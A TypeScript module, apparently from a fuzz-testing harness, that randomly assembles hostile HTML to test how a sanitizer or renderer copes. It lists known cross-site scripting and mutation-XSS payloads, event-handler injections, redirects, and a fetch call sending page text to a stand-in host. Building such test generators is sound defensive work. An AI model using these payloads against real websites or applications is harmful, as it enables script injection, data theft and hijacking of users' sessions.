/** HTML that would run, load, style or lead away, were it ever read as HTML. */
import type { Random } from '../../../torture/lib/random';
import { disguised, url } from './urls';

const TAGS = [
  ...[
    'script',
    'img',
    'svg',
    'iframe',
    'object',
    'embed',
    'video',
    'audio',
    'source',
    'link',
    'style',
  ],
  ...['meta', 'base', 'form', 'input', 'button', 'textarea', 'select', 'a', 'area', 'map', 'body'],
  ...[
    'math',
    'mtext',
    'mglyph',
    'annotation-xml',
    'foreignObject',
    'animate',
    'set',
    'use',
    'image',
  ],
  ...['template', 'slot', 'noscript', 'noembed', 'xmp', 'plaintext', 'title', 'details', 'dialog'],
  ...[
    'marquee',
    'frame',
    'frameset',
    'applet',
    'portal',
    'webview',
    'x-a',
    'table',
    'li',
    'br',
    'p',
  ],
] as const;

const EVENTS = [
  ...[
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'ontoggle',
    'onbegin',
    'onanimationstart',
    'onpointerenter',
  ],
  ...['onmouseover', 'onscroll', 'onbeforeinput', 'onpageshow', 'oncopy', 'ONERROR', 'on\u017foad'],
] as const;

const SCRIPTS = [
  ...['alert(1)', 'confirm`1`', 'print()', "fetch('https://a.example/'+document.body.innerText)"],
  ...[
    "sarangbang.call('quit','close')",
    "window.open('https://a.example')",
    "location='//a.example'",
  ],
  ...[
    "navigator.sendBeacon('//a.example')",
    "new Image().src='//a.example/x'",
    'import("//a.example")',
  ],
  ...[
    "Function('alert(1)')()",
    'setTimeout("alert(1)")',
    'document.write("<script>alert(1)</script>")',
  ],
] as const;

export const scriptOf = (random: Random): string => random.pick(SCRIPTS);

const quoted = (random: Random, value: string): string => {
  const mark = random.pick(['"', "'", '', '`']);
  return mark + value + mark;
};

const attribute = (random: Random): string =>
  random.pick([
    () => `${random.pick(EVENTS)}=${quoted(random, scriptOf(random))}`,
    () => `${random.pick(EVENTS)}=${quoted(random, scriptOf(random))}`,
    () => `src=${quoted(random, url(random))}`,
    () => `href=${quoted(random, disguised(random, url(random)))}`,
    () => `xlink:href=${quoted(random, url(random))}`,
    () => `srcdoc=${quoted(random, `<script>${scriptOf(random)}</script>`)}`,
    () => `style=${quoted(random, `background:url(${url(random)});position:fixed;inset:0`)}`,
    () => `action=${quoted(random, url(random))} formaction=${quoted(random, url(random))}`,
    () => `http-equiv=refresh content=${quoted(random, `0;url=${url(random)}`)}`,
    () => 'autofocus tabindex=0 contenteditable',
    () => 'id=root name=sarangbang class=message',
    () => `srcset=${quoted(random, `${url(random)} 2x`)} ping=${quoted(random, url(random))}`,
  ])();

/** What readers of HTML have taken for something else than it was. */
const MUTATIONS = [
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="//a.example"?>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table><td><svg><desc><td><p><iframe srcdoc="<script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜script＞alert(1)＜/script＞',
  '<style>@import "//a.example/x.css"; body{display:none}</style>',
  `{{constructor.constructor("alert(1)")()}} \${alert(1)} <%= 1 %>`,
  '"><script>alert(1)</script>',
  "';alert(1)//",
  ']]>--></title></style></textarea></script><svg onload=alert(1)>',
] as const;

export function tag(random: Random): string {
  if (random.oneIn(4)) return random.pick(MUTATIONS);
  const name = random.pick(TAGS);
  const attributes = Array.from({ length: random.whole(1, 3) }, () => attribute(random));
  const space = random.pick([' ', '\n', '\t', '/', '\f', '  ']);
  const opened = `<${random.oneIn(5) ? name.toUpperCase() : name}${space}${attributes.join(space)}`;
  return random.pick([
    `${opened}>`,
    `${opened}/>`,
    `${opened}>${scriptOf(random)}</${name}>`,
    opened,
    `${opened}><!--`,
    `</${name}>${opened}>`,
  ]);
}
